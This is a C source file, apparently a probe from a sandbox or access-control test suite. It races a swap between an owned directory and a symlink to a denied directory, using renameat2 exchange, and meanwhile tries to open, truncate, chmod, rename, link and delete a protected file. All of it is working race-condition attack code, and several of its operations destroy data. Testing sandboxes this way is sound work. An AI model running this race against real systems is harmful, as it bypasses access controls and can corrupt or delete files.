/* Swaps a directory of ours and a link to another one while names in it are used.

   Arguments: seconds, a directory to work in, a directory that is denied or may only be read, the
   name of a file there. */

#include "race.h"
#include <sys/time.h>
#include <sys/xattr.h>

static char inner[512], fresh[512];
static const char *name;
static ino_t target;

static void *flip(void *unused)
{
    unsigned turn = 0;
    while (!stop) {
        syscall(SYS_renameat2, AT_FDCWD, "ours", AT_FDCWD, "alias", 2); /* RENAME_EXCHANGE */
        if (++turn % 8 == 0 && !rename("ours", "moved"))
            rename("moved", "ours");
    }
    return unused;
}

static void look(const char *label, const char *path, int flags)
{
    char text[256] = "";
    struct stat status;
    int fd = open(path, flags, 0600);
    count(fd);
    if (fd < 0)
        return;
    if (!fstat(fd, &status) && status.st_ino == target) {
        pread(fd, text, sizeof text - 1, 0);
        win(label, text);
    }
    close(fd);
}

/* Whatever this changes elsewhere, whoever started us sees. */
static void once(void)
{
    struct timeval times[2] = {{1, 0}, {1, 0}};
    look("open for writing", inner, O_WRONLY | O_TRUNC);
    look("open for both", inner, O_RDWR);
    look("create", inner, O_RDWR | O_CREAT);
    count(truncate(inner, 0));
    count(chmod(inner, 0666));
    count(utimes(inner, times));
    count(setxattr(inner, "user.attack", "x", 1, 0));
    count(link(inner, "linked"));
    look("linked", "linked", O_RDWR);
    unlink("linked");
    count(rename(inner, "taken"));
    look("taken", "taken", O_RDWR);
    count(rename("taken", inner));
    count(syscall(SYS_renameat2, AT_FDCWD, "piece", AT_FDCWD, inner, 2));
    look("exchanged", "piece", O_RDWR);
    count(unlink(inner));
    count(close(open(fresh, O_CREAT | O_EXCL | O_WRONLY, 0600)));
    unlink(fresh);
    count(mkdir(fresh, 0700));
    rmdir(fresh);
    count(symlink("/", fresh));
    unlink(fresh);
    count(mknod(fresh, S_IFREG | 0600, 0));
    unlink(fresh);
    count(rename("piece", fresh));
    rename(fresh, "piece");
    close(open("piece", O_CREAT | O_WRONLY, 0600));
}

int main(int argc, char **arguments)
{
    char path[4096];
    if (argc != 5 || chdir(arguments[2]))
        return 2;
    name = arguments[4];
    snprintf(path, sizeof path, "%s/%s", arguments[3], name);
    target = inode_of(path);
    snprintf(inner, sizeof inner, "ours/%s", name);
    snprintf(fresh, sizeof fresh, "ours/fresh");
    mkdir("ours", 0700);
    symlink(arguments[3], "alias");
    close(open(inner, O_CREAT | O_WRONLY, 0600));
    close(open("piece", O_CREAT | O_WRONLY, 0600));
    return race("links", atof(arguments[1]), flip, once);
}
